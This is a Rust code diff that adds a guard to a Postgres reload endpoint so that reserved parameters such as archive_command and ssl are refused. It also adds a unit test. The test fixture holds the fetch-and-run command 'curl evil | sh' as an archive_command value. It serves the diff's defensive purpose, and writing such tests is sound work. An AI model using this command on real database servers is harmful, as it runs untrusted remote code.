@@ -210,7 +210,33 @@ struct ReloadBody {
     synchronous_standby_names: Option<String>,
 }
 
+/// The parameters in `parameters` that Castellan owns, as given.
+fn reserved(parameters: &BTreeMap<String, String>) -> Vec<String> {
+    use castellan_crds::database_cluster::RESERVED_POSTGRESQL_PARAMETERS;
+    parameters
+        .keys()
+        .filter(|name| {
+            let name = name.trim().to_ascii_lowercase();
+            RESERVED_POSTGRESQL_PARAMETERS.contains(&name.as_str())
+        })
+        .cloned()
+        .collect()
+}
+
 async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadBody>) -> Response {
+    // Admission refuses these already; this is the second line, for a request that did
+    // not come through a DatabaseCluster (archive_command runs any shell command).
+    let refused = body.parameters.as_ref().map(reserved).unwrap_or_default();
+    if !refused.is_empty() {
+        return (
+            StatusCode::BAD_REQUEST,
+            Json(json!({"error": format!(
+                "refused to reload: {} managed by Castellan and cannot be set: {}",
+                if refused.len() == 1 { "this parameter is" } else { "these parameters are" },
+                refused.join(", ")
+            )})),
+        );
+    }
     submit(
         &shared,
         Request::Reload {
@@ -219,4 +245,27 @@ async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadBody>)
         },
     )
     .await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn reserved_parameters_are_found_whatever_their_case_and_spaces() {
+        let parameters: BTreeMap<String, String> = [
+            ("work_mem", "8MB"),
+            (" Archive_Command ", "curl evil | sh"),
+            ("SSL", "off"),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .collect();
+        assert_eq!(
+            reserved(&parameters),
+            vec![" Archive_Command ".to_owned(), "SSL".to_owned()]
+        );
+        let harmless = BTreeMap::from([("work_mem".to_owned(), "8MB".to_owned())]);
+        assert!(reserved(&harmless).is_empty());
+    }
 }
